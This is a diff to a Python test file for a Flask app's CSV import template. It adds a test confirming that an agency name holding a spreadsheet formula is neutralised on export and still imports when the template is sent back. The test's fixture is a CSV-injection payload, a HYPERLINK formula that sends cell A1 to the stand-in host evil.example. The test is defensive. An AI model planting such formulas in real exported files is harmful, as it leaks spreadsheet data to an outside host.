@@ -332,7 +332,32 @@ def test_the_import_template_lists_indicators_in_use(admin_client: FlaskClient, 
     make_indicator(db, police, code="OLD-1", active=False)
     auth.login("staff")
     text = admin_client.get("/indicators/import/template.csv").get_data(as_text=True)
-    assert text.lstrip("\ufeff").splitlines() == ["indicator,agency,period,value,note", 'CSC-03,"Police",2026-27 Q1,,']
+    assert text.lstrip("\ufeff").splitlines() == ["indicator,agency,period,value,note", "CSC-03,Police,2026-27 Q1,,"]
+
+
+HOSTILE_AGENCY = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+
+
+def test_the_import_template_defuses_a_hostile_agency_name_and_still_imports(
+    admin_client: FlaskClient, auth: Any, db: Session
+) -> None:
+    make_indicator(db, make_agency(db, HOSTILE_AGENCY))
+    auth.login("staff")
+    text = admin_client.get("/indicators/import/template.csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert rows[1][:2] == ["CSC-03", "'" + HOSTILE_AGENCY]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    # The template filled in and sent back as it came imports: the defused name still names the agency.
+    rows[1][3] = "80"
+    filled = io.StringIO()
+    csv.writer(filled).writerows(rows)
+    response = admin_client.post(
+        "/indicators/import",
+        data={"file": (io.BytesIO(filled.getvalue().encode()), "template.csv")},
+        content_type="multipart/form-data",
+    )
+    assert response.status_code == 302, response.get_data(as_text=True)
+    assert values(db) == {"2026-27 Q1": 80.0}
 
 
 @pytest.mark.parametrize("role", ["board", "partner"])
